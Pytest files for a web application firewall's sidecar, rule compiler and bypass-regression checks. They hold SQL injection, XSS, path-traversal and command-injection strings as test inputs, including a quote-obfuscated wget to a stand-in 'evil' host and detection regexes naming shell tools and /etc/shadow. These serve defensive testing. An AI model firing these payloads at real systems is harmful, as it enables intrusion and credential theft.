    assert head.startswith(b"HTTP/1.0 200")
    return json.loads(body)


class Client:
    """Minimal blocking UDS client speaking the sidecar/serve protocol."""

    def __init__(self, path):
        from ingress_plus_tpu.serve.protocol import FrameReader, RESP_MAGIC

        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(path)
        self.sock.settimeout(30)
        self.reader = FrameReader(RESP_MAGIC)

    def send(self, data):
        self.sock.sendall(data)

    def recv_verdict(self):
        from ingress_plus_tpu.serve.protocol import decode_response

        while True:
            got = self.reader.feed(self.sock.recv(65536))
            if got:
                return decode_response(got[0])

    def close(self):
        self.sock.close()


def _request(uri, body=b"", mode=2, req_id=1):
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import encode_request

    return encode_request(
        Request(method="GET", uri=uri, headers={"Host": "t"}, body=body),
        req_id, mode=mode)


def test_verdict_roundtrip(sidecar):
    c = Client(sidecar)
    c.send(_request("/?q=1%20union%20select%20x", req_id=7))
    v = c.recv_verdict()
    assert v["req_id"] == 7
    assert v["attack"] and v["blocked"] and not v["fail_open"]
    c.send(_request("/hello?x=1", req_id=8))
    v = c.recv_verdict()
    assert v["req_id"] == 8
    assert not v["attack"] and not v["blocked"]
    c.close()


def test_response_scan_through_sidecar(sidecar):
    """PTPI frames route through the real sidecar binary like requests
    (balanced, deadline-tracked, verdict restored to the original
    req_id) — the minimal sidecar honor of detect_tpu_parse_response."""
    from ingress_plus_tpu.serve.normalize import Response
    from ingress_plus_tpu.serve.protocol import encode_response_scan

    c = Client(sidecar)
    c.send(encode_response_scan(Response(
        status=500, headers={"Content-Type": "text/html"},
        body=b"You have an error in your SQL syntax near 'x'"),
        req_id=901))
    v = c.recv_verdict()
    assert v["req_id"] == 901
    assert v["attack"] and v["blocked"] and not v["fail_open"]
    assert v["rule_ids"] == [951100]
    c.send(encode_response_scan(Response(
        status=200, headers={}, body=b"all fine here"), req_id=902))
    v = c.recv_verdict()
    assert v["req_id"] == 902 and not v["attack"]
    c.close()


def test_loadgen_through_sidecar(sidecar, tmp_path):
    from ingress_plus_tpu.utils.export_corpus import export

    corpus = tmp_path / "c.bin"
    export(str(corpus), n=150, seed=5, attack_fraction=0.3)
    out = subprocess.run(
        [str(LOADGEN), "--socket", sidecar, "--corpus", str(corpus),
         "--connections", "4", "--inflight", "8", "--requests", "300"],
        capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    assert result["requests"] == 300
    assert result["fail_open"] == 0
    assert result["attacks"] > 0
    assert result["blocked"] == result["attacks"]


def test_streaming_body_through_sidecar(sidecar):
    from ingress_plus_tpu.serve.protocol import MODE_STREAM, encode_chunk

    c = Client(sidecar)
    # stream an attack across chunk boundaries (pattern split mid-token)
    c.send(_request("/upload", body=b"x=1 uni", mode=2 | MODE_STREAM,
                    req_id=42))
    c.send(encode_chunk(42, b"on sel"))
    c.send(encode_chunk(42, b"ect password from users", last=True))
    v = c.recv_verdict()
    assert v["req_id"] == 42
    assert v["attack"] and v["blocked"] and not v["fail_open"]
    c.close()


def test_websocket_through_sidecar(sidecar):
    """WTPI frames route through the real sidecar binary: sticky to one
    upstream per upgraded connection, stream id rewritten, one verdict
    per frame, sticky attack state across frames."""
    from ingress_plus_tpu.serve.protocol import encode_ws
    from tests.test_websocket import ws_frame

    c = Client(sidecar)
    # fragmented masked attack across two capture frames
    c.send(encode_ws(71, 9000, ws_frame(b"1 union ", fin=False,
                                        mask=b"abcd")))
    v = c.recv_verdict()
    assert v["req_id"] == 71 and not v["attack"]  # mid-message
    c.send(encode_ws(72, 9000, ws_frame(b"select 2", opcode=0,
                                        mask=b"wxyz")))
    v = c.recv_verdict()
    assert v["req_id"] == 72
    assert v["attack"] and v["blocked"] and not v["fail_open"]
    # later frame of the same stream: sticky verdict
    c.send(encode_ws(73, 9000, ws_frame(b"innocent chatter")))
    v = c.recv_verdict()
    assert v["req_id"] == 73 and v["attack"]
    # end frame frees state on both sides
    c.send(encode_ws(74, 9000, b"", end=True))
    assert c.recv_verdict()["req_id"] == 74
    c.close()


def test_websocket_streams_isolated_across_conns(sidecar):
    """Two downstream conns using the SAME stream id must not share
    serve-side state (the sidecar rewrites stream ids globally unique)."""
    from ingress_plus_tpu.serve.protocol import encode_ws
    from tests.test_websocket import ws_frame

    a, b = Client(sidecar), Client(sidecar)
    a.send(encode_ws(81, 7700, ws_frame(b"1 union select 2",
                                        mask=b"mmmm")))
    v = a.recv_verdict()
    assert v["req_id"] == 81 and v["attack"]
    # same stream id on another conn: no sticky contamination
    b.send(encode_ws(82, 7700, ws_frame(b"hello there")))
    v = b.recv_verdict()
    assert v["req_id"] == 82 and not v["attack"]
    a.close()
    b.close()


def test_status_counters(sidecar):
    st = _status()
    assert st["upstream_connected"] is True
    assert st["requests_in"] >= 1
    assert st["responses"] >= 1
    assert st["ws_frames_in"] >= 1
    assert st["bad_frames"] == 0


def test_abandoned_streams_do_not_leak(sidecar):
    """A conn dying mid-stream must be aborted upstream; otherwise the serve
    loop's per-conn stream cap (256) on the one mux connection eventually
    makes ALL streaming fail open."""
    from ingress_plus_tpu.serve.protocol import MODE_STREAM, encode_chunk

    for i in range(300):  # > MAX_STREAMS_PER_CONN
        c = Client(sidecar)
        c.send(_request("/up", body=b"x=", mode=2 | MODE_STREAM,
                        req_id=1000 + i))
        c.close()  # vanish without the last chunk
    # streaming must still work end-to-end (real verdict, not fail-open)
    c = Client(sidecar)
    c.send(_request("/up", body=b"q=1 union", mode=2 | MODE_STREAM,
                    req_id=5000))
    c.send(encode_chunk(5000, b" select x", last=True))
    v = c.recv_verdict()
    assert v["attack"] and not v["fail_open"]
    c.close()


def test_malformed_frame_closes_conn_only(sidecar):
    """A bad frame dooms that connection (counted), not the sidecar."""
    import struct as _s

    bad = socket.socket(socket.AF_UNIX)
    bad.connect(sidecar)
    bad.sendall(b"QTPI" + _s.pack("<I", 10) + b"0123456789")  # < min 26
    bad.settimeout(5)
    assert bad.recv(16) == b""  # sidecar closes the violating conn
    bad.close()
    # healthy conns keep working
    c = Client(sidecar)
    c.send(_request("/ok?x=1", req_id=77))
    v = c.recv_verdict()
    assert v["req_id"] == 77 and not v["fail_open"]
    c.close()
    assert _status()["bad_frames"] >= 1


@pytest.fixture(scope="module")
def two_servers(tmp_path_factory, binaries):
    """Two serve loops — the one-serve-loop-per-chip layout the balancer
    (balancer.lua analog) spreads traffic across."""
    tmp = tmp_path_factory.mktemp("twoserve")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    socks, procs = [], []
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    for i in range(2):
        sock = str(tmp / ("serve%d.sock" % i))
        proc = subprocess.Popen(
            [sys.executable, "-m", "ingress_plus_tpu.serve",
             "--socket", sock, "--rules-dir", str(rules_dir),
             "--platform", "cpu", "--max-delay-us", "1000", "--no-warmup",
         # CI-host ladder desensitization (see test_serve_e2e fixture)
         "--hard-deadline-ms", "5000",
             "--http-port", "0"],
            cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
        socks.append(sock)
        procs.append(proc)
    for sock, proc in zip(socks, procs):
        _wait_socket(sock, proc, "serve loop")
    yield socks, procs
    for proc in procs:
        if proc.poll() is None:
            proc.terminate()
            proc.wait(timeout=10)


def _run_sidecar(listen, upstreams, port, balance="rr", deadline_ms=5000):
    return subprocess.Popen(
        [str(BIN), "--listen", listen, "--upstream", ",".join(upstreams),
         "--balance", balance, "--deadline-ms", str(deadline_ms),
         "--status-port", str(port)],
        stderr=subprocess.PIPE, text=True)


def test_balancer_round_robin_spreads(two_servers, tmp_path):
    socks, _ = two_servers
    listen = str(tmp_path / "side.sock")
    proc = _run_sidecar(listen, socks, 19913)
    try:
        _wait_socket(listen, proc, "sidecar")
        c = Client(listen)
        for i in range(40):
            c.send(_request("/x?i=%d" % i, req_id=100 + i))
            assert not c.recv_verdict()["fail_open"]
        c.close()
        st = _status(19913)
        fwd = [u["forwarded"] for u in st["upstreams"]]
        assert sum(fwd) == 40
        assert min(fwd) >= 15  # rr: near-even split
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_balancer_chash_tenant_affinity(two_servers, tmp_path):
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import encode_request

    socks, _ = two_servers
    listen = str(tmp_path / "side.sock")
    proc = _run_sidecar(listen, socks, 19914, balance="chash")
    try:
        _wait_socket(listen, proc, "sidecar")
        c = Client(listen)
        rid = 500
        for tenant in (3, 9):
            for _ in range(10):
                c.send(encode_request(
                    Request(uri="/x", headers={"Host": "t"}, tenant=tenant),
                    rid))
                assert not c.recv_verdict()["fail_open"]
                rid += 1
        c.close()
        st = _status(19914)
        fwd = sorted(u["forwarded"] for u in st["upstreams"])
        # each tenant maps to exactly one upstream; with 2 tenants the
        # split is either 10/10 (different ring slots) or 0/20 (same)
        assert sum(fwd) == 20
        assert fwd[0] in (0, 10)
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_balancer_failover(two_servers, tmp_path):
    socks, procs = two_servers
    listen = str(tmp_path / "side.sock")
    proc = _run_sidecar(listen, socks, 19915)
    try:
        _wait_socket(listen, proc, "sidecar")
        c = Client(listen)
        for i in range(10):
            c.send(_request("/x?i=%d" % i, req_id=700 + i))
            assert not c.recv_verdict()["fail_open"]
        # kill one serve loop: traffic must continue on the survivor
        procs[1].terminate()
        procs[1].wait(timeout=10)
        time.sleep(0.3)
        ok = 0
        for i in range(20):
            c.send(_request("/?q=1%%20union%%20select%%20x&i=%d" % i,
                            req_id=800 + i))
            v = c.recv_verdict()
            if not v["fail_open"]:
                ok += 1
                assert v["attack"]
        assert ok >= 18  # at most the in-flight moment wobbles
        c.close()
        st = _status(19915)
        alive = [u for u in st["upstreams"] if u["connected"]]
        assert len(alive) == 1
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_deadline_fail_open(binaries, tmp_path):
    """Upstream accepts but never answers → pass+fail_open within ~deadline."""
    stall = str(tmp_path / "stall.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(stall)
    srv.listen(4)
    held = []

    def absorb():
        try:
            conn, _ = srv.accept()
            held.append(conn)
            while conn.recv(65536):
                pass
        except OSError:
            pass

    t = threading.Thread(target=absorb, daemon=True)
    t.start()

    listen = str(tmp_path / "side.sock")
    proc = subprocess.Popen(
        [str(BIN), "--listen", listen, "--upstream", stall,
         "--deadline-ms", "80", "--status-port", "19912"],
        stderr=subprocess.PIPE, text=True)
    try:
        _wait_socket(listen, proc, "sidecar")
        c = Client(listen)
        t0 = time.time()
        c.send(_request("/?q=1%20union%20select%20x", req_id=9))
        v = c.recv_verdict()
        elapsed = time.time() - t0
        assert v["req_id"] == 9
        assert v["fail_open"] and not v["blocked"] and not v["attack"]
        assert elapsed < 5.0  # deadline 80ms + scheduling slack
        st = _status(19912)
        assert st["fail_open_deadline"] == 1
        c.close()
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        srv.close()
        for conn in held:
            conn.close()


def test_upstream_down_fail_open(binaries, tmp_path):
    """No serve loop at all → requests fail open immediately, never hang."""
    listen = str(tmp_path / "side.sock")
    proc = subprocess.Popen(
        [str(BIN), "--listen", listen,
         "--upstream", str(tmp_path / "nonexistent.sock"),
         "--deadline-ms", "1000"],
        stderr=subprocess.PIPE, text=True)
    try:
        _wait_socket(listen, proc, "sidecar")
        c = Client(listen)
        t0 = time.time()
        c.send(_request("/?q=<script>alert(1)</script>", req_id=3))
        v = c.recv_verdict()
        assert v["fail_open"] and not v["blocked"]
        assert time.time() - t0 < 2.0
        c.close()
    finally:
        proc.terminate()
        proc.wait(timeout=10)
