"""Compiler core: regex parsing, factor extraction soundness, bitap packing.

Differential testing against Python ``re`` (the oracle role SURVEY.md §4
assigns to CPU engines): for every corpus string that the real regex
matches, the extracted factor group MUST also fire (soundness — prefilter
never misses), and the packed bitap tables must agree with a direct
factor-search.
"""

import random
import re

import numpy as np
import pytest

from ingress_plus_tpu.compiler.bitap import (
    factors_to_rules,
    matches_to_factors,
    pack_factors,
    reference_scan,
)
from ingress_plus_tpu.compiler.factors import (
    best_factor_group,
    enumerate_seqs,
    mandatory_groups,
    seq_bits,
)
from ingress_plus_tpu.compiler.regex_ast import (
    Lit,
    RegexUnsupported,
    parse_regex,
)


def seq_matches_at(seq, data: bytes, i: int) -> bool:
    if i + len(seq) > len(data):
        return False
    return all(data[i + j] in cls for j, cls in enumerate(seq))


def group_fires(group, data: bytes) -> bool:
    return any(
        seq_matches_at(seq, data, i)
        for seq in group
        for i in range(len(data) - len(seq) + 1)
    )


# ---------------------------------------------------------------- parsing


def test_parse_literal():
    node = parse_regex("abc")
    seqs = enumerate_seqs(node)
    assert seqs == [(frozenset([97]), frozenset([98]), frozenset([99]))]


def test_parse_class_and_ranges():
    node = parse_regex("[a-c]")
    assert isinstance(node, Lit)
    assert node.chars == frozenset([97, 98, 99])
    node = parse_regex("[^\\x00-\\xfe]")
    assert node.chars == frozenset([0xFF])


def test_parse_ignorecase():
    node = parse_regex("aB", ignorecase=True)
    seqs = enumerate_seqs(node)
    assert seqs == [(frozenset([97, 65]), frozenset([98, 66]))]


def test_parse_inline_flag():
    node = parse_regex("(?i)ab")
    seqs = enumerate_seqs(node)
    assert seqs == [(frozenset([97, 65]), frozenset([98, 66]))]


def test_parse_alternation_enumeration():
    node = parse_regex("(?:union|select) ")
    seqs = enumerate_seqs(node)
    assert len(seqs) == 2
    assert all(s[-1] == frozenset([32]) for s in seqs)


def test_unsupported_raises():
    with pytest.raises(RegexUnsupported):
        parse_regex(r"(a)\1")
    with pytest.raises(RegexUnsupported):
        parse_regex(r"(?=foo)bar")
    with pytest.raises(RegexUnsupported):
        parse_regex(r"(?<!x)y")


def test_posix_class():
    node = parse_regex("[[:digit:]]")
    assert node.chars == frozenset(range(0x30, 0x3A))


def test_quoted_literal():
    node = parse_regex(r"\Qa.b\E")
    seqs = enumerate_seqs(node)
    assert seqs == [(frozenset([97]), frozenset([46]), frozenset([98]))]


# ------------------------------------------------- factor soundness (fuzz)

PATTERNS = [
    r"union\s+select",
    r"(?i)<script[^>]*>",
    r"\.\./(?:\.\./)*etc/passwd",
    r"(?:;|\||&&)\s*(?:cat|ls|id|wget)\b",
    r"(?i)(?:or|and)\s+\d+\s*=\s*\d+",
    r"eval\s*\(",
    r"[\"'`]\s*or\s*[\"'`]?1",
    r"(?i)select.{0,40}from",
    r"\bjava\.lang\.(?:Runtime|ProcessBuilder)",
    r"onerror\s*=",
    r"(?:%0a|%0d|\n|\r)Set-Cookie",
    r"/etc/(?:passwd|shadow|group)",
    r"(?i)x(?:p_cmdshell|p_dirtree)",
    r"(?:sleep|benchmark)\s*\(\s*\d",
    r"document\.(?:cookie|location)",
]

ATTACK_SNIPPETS = [
    b"1 union select password from users",
    b"<ScRiPt src=x>",
    b"../../../etc/passwd",
    b"; cat /etc/shadow",
    b"' OR 1=1 --",
    b"eval (base64_decode($_POST))",
    b"\" or \"1\"=\"1",
    b"SELECT name FROM sqlite_master",
    b"java.lang.Runtime.getRuntime",
    b"<img src=x onerror = alert(1)>",
    b"%0d%0aSet-Cookie: sess=1",
    b"xp_cmdshell 'dir'",
    b"sleep ( 5 )",
    b"document.cookie",
]


def rand_bytes(rng, n):
    return bytes(rng.randrange(32, 127) for _ in range(n))


@pytest.mark.parametrize("pattern", PATTERNS)
def test_factor_soundness_vs_re(pattern):
    """If the regex matches a string, the best factor group must fire."""
    node = parse_regex(pattern)
    group = best_factor_group(node)
    assert group is not None, "no usable factor for %r" % pattern
    rx = re.compile(pattern.encode())
    rng = random.Random(hash(pattern) & 0xFFFF)
    corpus = list(ATTACK_SNIPPETS)
    # embed attack snippets into random noise too
    for snip in ATTACK_SNIPPETS[:6]:
        corpus.append(rand_bytes(rng, 20) + snip + rand_bytes(rng, 20))
    for _ in range(50):
        corpus.append(rand_bytes(rng, rng.randrange(1, 80)))
    for s in corpus:
        if rx.search(s):
            assert group_fires(group, s), (
                "factor missed a true match: pattern=%r input=%r group=%r"
                % (pattern, s, group)
            )


def test_mandatory_groups_star_has_none():
    node = parse_regex("a*")
    assert best_factor_group(node) is None


def test_group_scoring_prefers_selective():
    node = parse_regex(r"union\s+select")
    g = best_factor_group(node)
    assert min(seq_bits(s) for s in g) >= 6.0


# ---------------------------------------------------------------- bitap


def _compile_patterns(patterns):
    groups = []
    for p in patterns:
        g = best_factor_group(parse_regex(p))
        assert g is not None
        groups.append(g)
    return pack_factors(groups), groups


def test_bitap_single_literal():
    tables, _ = _compile_patterns(["passwd"])
    M = reference_scan(tables, b"GET /etc/passwd HTTP/1.1")
    hits = factors_to_rules(tables, matches_to_factors(tables, M))
    assert hits[0]
    M = reference_scan(tables, b"GET /index.html")
    hits = factors_to_rules(tables, matches_to_factors(tables, M))
    assert not hits[0]


def test_bitap_matches_direct_search():
    """Packed-scan result == direct per-factor sliding-window search."""
    tables, groups = _compile_patterns(PATTERNS)
    rng = random.Random(7)
    corpus = list(ATTACK_SNIPPETS)
    for snip in ATTACK_SNIPPETS:
        corpus.append(rand_bytes(rng, 15) + snip.lower() + rand_bytes(rng, 15))
    for _ in range(100):
        corpus.append(rand_bytes(rng, rng.randrange(0, 120)))
    for s in corpus:
        M = reference_scan(tables, s)
        got = factors_to_rules(tables, matches_to_factors(tables, M))
        want = np.array([group_fires(g, s) for g in groups])
        assert (got == want).all(), "mismatch on %r" % s


def test_bitap_rule_prefilter_soundness_vs_re():
    tables, groups = _compile_patterns(PATTERNS)
    rxs = [re.compile(p.encode()) for p in PATTERNS]
    rng = random.Random(11)
    corpus = list(ATTACK_SNIPPETS) + [rand_bytes(rng, 60) for _ in range(50)]
    for s in corpus:
        M = reference_scan(tables, s)
        got = factors_to_rules(tables, matches_to_factors(tables, M))
        for r, rx in enumerate(rxs):
            if rx.search(s):
                assert got[r], "prefilter missed: rule=%r input=%r" % (PATTERNS[r], s)


def test_bitap_dedup_shares_factors():
    # two rules with the same factor share packed bits
    g = best_factor_group(parse_regex("passwd"))
    tables = pack_factors([g, g])
    assert tables.n_factors == 1
    M = reference_scan(tables, b"/etc/passwd")
    hits = factors_to_rules(tables, matches_to_factors(tables, M))
    assert hits[0] and hits[1]


def test_rule_without_factor_marked():
    tables = pack_factors([[], best_factor_group(parse_regex("abc"))])
    assert tables.rule_nfactors[0] == 0
    assert tables.rule_nfactors[1] >= 1


# ------------------------- non-scan operators compile confirm-only (920)

CRS_920_SHAPE = r"""
SecRule REQUEST_BODY "@validateByteRange 32-126,9,10,13" \
    "id:920270,phase:2,block,severity:CRITICAL,tag:'attack-protocol'"
SecRule ARGS "@validateUrlEncoding" \
    "id:920220,phase:2,block,severity:WARNING,tag:'attack-protocol'"
SecRule REQUEST_BODY "@validateUtf8Encoding" \
    "id:920250,phase:2,block,severity:WARNING,tag:'attack-protocol'"
SecRule ARGS "@eq 0" \
    "id:920170,phase:2,block,severity:WARNING,tag:'attack-protocol'"
SecRule ARGS "!@rx ^[\w=&.]+$" \
    "id:920260,phase:1,block,severity:WARNING,tag:'attack-protocol'"
SecRule REQUEST_URI "@rx (?i)union\s+select" \
    "id:942100,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
"""


def test_non_scan_operators_compile_confirm_only():
    """A CRS-920-shaped file loses ZERO rules: non-scan and negated
    operators compile with empty factor groups onto the always-confirm
    path (VERDICT: silently-dropped 920 rules were a protocol hole)."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    rules = parse_seclang(CRS_920_SHAPE)
    assert len(rules) == 6
    cr = compile_ruleset(rules)
    assert cr.n_rules == 6, "rules were dropped at compile"
    ids = set(cr.rule_ids.tolist())
    assert {920270, 920220, 920250, 920170, 920260, 942100} <= ids
    # the non-scan rules have no prefilter factors -> always-confirm
    import numpy as np
    no_factors = {int(cr.rule_ids[i]) for i in range(cr.n_rules)
                  if cr.tables.rule_nfactors[i] == 0}
    assert {920270, 920220, 920250, 920170, 920260} <= no_factors


def test_protocol_operator_semantics():
    """Exact CPU evaluation of the 920-family operators end-to-end."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    p = DetectionPipeline(compile_ruleset(parse_seclang(CRS_920_SHAPE)),
                          mode="block", anomaly_threshold=3)

    def hits(req):
        return set(p.detect([req])[0].rule_ids)

    # null byte in body is outside 32-126,9,10,13
    assert 920270 in hits(Request(method="POST", uri="/a?x=1",
                                  body=b"field=ab\x00cd"))
    # invalid %-encoding in args
    assert 920220 in hits(Request(uri="/a?q=abc%zzdef"))
    # invalid utf-8 in body
    assert 920250 in hits(Request(method="POST", uri="/a?x=1",
                                  body=b"data=\xff\xfe\xfd"))
    # args value with atoi() == 0
    assert 920170 in hits(Request(uri="/a?x=zero"))
    # negated rx (query charset allowlist): a forbidden byte fires,
    # an in-charset query does not
    assert 920260 in hits(Request(uri="/a?x=evil|host"))
    assert 920260 not in hits(Request(uri="/a?x=10.0.0.1"))
    # clean numeric request: none of the above
    clean = hits(Request(uri="/a?x=42"))
    assert not {920270, 920220, 920250, 920260} & clean


def test_negation_never_inverts_abstain():
    """'Cannot evaluate' (macro args, unsupported ops, broken regex) must
    abstain — not flip to always-fire under negation (review finding:
    '!@eq %{tx.foo}' would otherwise block every request)."""
    from ingress_plus_tpu.models.confirm import ConfirmRule

    streams = {"args": b"x=anything"}
    # macro argument: abstain, negated or not
    for neg in (False, True):
        cr = ConfirmRule({"op": "eq", "arg": "%{tx.foo}", "negate": neg,
                          "targets": ["args"]})
        assert not cr.matches_streams(streams)
        # unsupported operator
        cr = ConfirmRule({"op": "ipMatch", "arg": "127.0.0.1",
                          "negate": neg, "targets": ["args"]})
        assert not cr.matches_streams(streams)
        # broken regex
        cr = ConfirmRule({"op": "rx", "arg": "(unclosed", "negate": neg,
                          "targets": ["args"]})
        assert not cr.matches_streams(streams)


def test_negated_pm_keeps_word_list():
    """'!@pm GET POST' must evaluate the word list then invert — the
    compile path must populate confirm['words'] before the negate
    early-return (review finding: empty words made it fire on GET)."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    rules = parse_seclang(
        'SecRule REQUEST_URI "!@pm /api /web" '
        '"id:911100,phase:1,block,severity:CRITICAL,tag:\'attack-protocol\'"')
    assert rules[0].negate and rules[0].operator == "pm"
    p = DetectionPipeline(compile_ruleset(rules), mode="block",
                          anomaly_threshold=3)
    assert not p.detect([Request(uri="/api/users")])[0].attack
    assert p.detect([Request(uri="/secret/path")])[0].attack


def test_count_form_targets_evaluated_exactly():
    """'&REQUEST_HEADERS:Host' is the variable COUNT.  Round 2 could only
    abstain (the selector was discarded and '@eq 0' on a text blob would
    atoi to 0 and block everything); round 3 resolves the count exactly
    from raw_targets in the confirm stage."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    rules = parse_seclang(
        'SecRule &REQUEST_HEADERS:Host "@eq 0" '
        '"id:920280,phase:1,block,severity:CRITICAL,tag:\'attack-protocol\'"')
    assert rules[0].targets == ["headers"]
    assert rules[0].raw_targets == ["&REQUEST_HEADERS:Host"]
    p = DetectionPipeline(compile_ruleset(rules), mode="block",
                          anomaly_threshold=3)
    # Host present -> count 1 -> @eq 0 false -> never fires
    for uri in ("/q?x=hello", "/q?x=42", "/plain"):
        v = p.detect([Request(uri=uri,
                              headers={"Host": "example.com"})])[0]
        assert not v.attack, uri
    # Host missing (but other headers present) -> count 0 -> fires
    v = p.detect([Request(uri="/q", headers={"Accept": "*/*"})])[0]
    assert v.attack and v.rule_ids == [920280]
    # mixed targets: count form keeps its base streams too (ARGS spans
    # both the query-args and body streams — ARGS_GET ∪ ARGS_POST)
    rules = parse_seclang(
        'SecRule &ARGS|REQUEST_URI "@rx (?i)union\\s+select" '
        '"id:942999,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"')
    assert sorted(rules[0].targets) == ["args", "body", "uri"]


def test_include_directive_loads_config_tree(tmp_path):
    """ModSecurity `Include` (relative, glob, nested, cycle-proof) — the
    entry-config shape every real CRS deployment uses."""
    from ingress_plus_tpu.compiler.seclang import (
        SecLangError, load_seclang_dir, parse_seclang)

    rdir = tmp_path / "rules"
    rdir.mkdir()
    (rdir / "a-sqli.conf").write_text(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:942100,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n')
    (rdir / "b-xss.conf").write_text(
        'SecRule ARGS "@rx (?i)<script" '
        '"id:941100,phase:2,block,severity:CRITICAL,tag:\'attack-xss\'"\n'
        # nested include + self-include (cycle) must both be harmless
        'Include b-xss.conf\n'
        'Include ../extra.conf\n')
    (tmp_path / "extra.conf").write_text(
        'SecRule ARGS "@rx /etc/passwd" '
        '"id:930120,phase:2,block,severity:CRITICAL,tag:\'attack-lfi\'"\n')
    entry = tmp_path / "modsecurity.conf"
    entry.write_text("Include rules/*.conf\n")

    rules = parse_seclang(entry.read_text(), source=str(entry),
                          base_dir=entry.parent)
    ids = sorted(r.rule_id for r in rules)
    assert ids == [930120, 941100, 942100]

    # load_seclang_dir accepts the entry FILE directly
    rules2 = load_seclang_dir(entry)
    assert sorted(r.rule_id for r in rules2) == ids

    # missing include is a hard, typed error
    entry.write_text("Include nope/*.conf\n")
    import pytest
    with pytest.raises(SecLangError):
        load_seclang_dir(entry)


def test_secdefaultaction_inheritance():
    """SecDefaultAction per-phase defaults: disruptive action when a
    rule names none, transforms prepended unless the rule leads with
    t:none (the reason CRS rules all start with t:none)."""
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    text = (
        'SecDefaultAction "phase:2,pass,t:lowercase,t:urlDecodeUni"\n'
        # inherits pass + both transforms
        'SecRule ARGS "@rx select" "id:1,phase:2"\n'
        # t:none resets the default transform chain
        'SecRule ARGS "@rx select" "id:2,phase:2,t:none,t:trim,block"\n'
        # appends to defaults (no leading t:none)
        'SecRule ARGS "@rx select" "id:3,phase:2,t:trim"\n'
        # phase 1 has no default: falls back to block, own transforms
        'SecRule ARGS "@rx select" "id:4,phase:1"\n')
    rules = {r.rule_id: r for r in parse_seclang(text)}
    assert rules[1].action == "pass"
    assert rules[1].transforms == ["lowercase", "urlDecodeUni"]
    assert rules[2].action == "block"
    assert rules[2].transforms == ["trim"]
    assert rules[3].action == "pass"
    assert rules[3].transforms == ["lowercase", "urlDecodeUni", "trim"]
    assert rules[4].action == "block"
    assert rules[4].transforms == []


def test_secdefaultaction_symbolic_phase_and_midlist_none():
    """Round-4 review repros: symbolic/numeric phase notation mixes
    must still inherit, and a mid-list t:none resets everything before
    it (defaults included)."""
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    text = (
        'SecDefaultAction "phase:request,pass,t:urlDecodeUni"\n'
        'SecRule ARGS "@rx select" "id:1,phase:2"\n'
        'SecRule ARGS "@rx select" '
        '"id:2,phase:request,t:lowercase,t:none,t:trim"\n')
    rules = {r.rule_id: r for r in parse_seclang(text)}
    assert rules[1].action == "pass"            # symbolic->numeric mix
    assert rules[1].transforms == ["urlDecodeUni"]
    assert rules[2].transforms == ["trim"]      # mid-list reset
