"""Regression tests for prefilter soundness under destructive transforms.

These encode the WAF-bypass scenarios found in round-1 code review:
normalizePath insertion (`/etc/./passwd`), deletion-transform interleaving
(`w"get` → `wget` under cmdLine), and pmFromFile resolution.
"""

import numpy as np
import pytest

from ingress_plus_tpu.compiler.bitap import (
    factors_to_rules,
    matches_to_factors,
    reference_scan,
)
from ingress_plus_tpu.compiler.ruleset import (
    SQUASH_BYTES,
    VARIANTS,
    compile_ruleset,
)
from ingress_plus_tpu.compiler.seclang import SecLangError, parse_seclang
from ingress_plus_tpu.compiler.sigpack import RULES_DIR


def _hits(cr, data: bytes) -> np.ndarray:
    M = reference_scan(cr.tables, data)
    return factors_to_rules(cr.tables, matches_to_factors(cr.tables, M))


def squash(data: bytes) -> bytes:
    """The squash-variant stream normalization (serve-side mirror)."""
    return bytes(b for b in data if b not in SQUASH_BYTES)


def test_normalizepath_rule_survives_dot_segment_insertion():
    rules = parse_seclang(
        'SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
        '"id:1,phase:1,block,t:lowercase,t:normalizePath"'
    )
    cr = compile_ruleset(rules)
    # raw stream contains an inserted /./ — normalized text matches the rule
    assert _hits(cr, b"GET /etc/./passwd")[0], (
        "normalizePath bypass: factor must not span path separators"
    )
    assert _hits(cr, b"GET /etc/foo/../passwd")[0]
    assert not _hits(cr, b"GET /index.html")[0]


def test_cmdline_rule_survives_quote_interleaving():
    rules = parse_seclang(
        'SecRule ARGS "@rx (?i)wget" "id:2,phase:2,block,t:lowercase,t:cmdLine"'
    )
    cr = compile_ruleset(rules)
    assert cr.rules[0].variant == 3  # squash_raw
    # attacker interleaves quotes; cmdLine deletes them before matching.
    payload = b';w"g\'et http://evil'
    assert _hits(cr, squash(payload))[0], (
        "cmdLine bypass: squash variant must fire on de-quoted stream"
    )


def test_compresswhitespace_rule_on_squash_variant():
    rules = parse_seclang(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:3,phase:2,block,t:urlDecodeUni,t:lowercase,t:compressWhitespace"'
    )
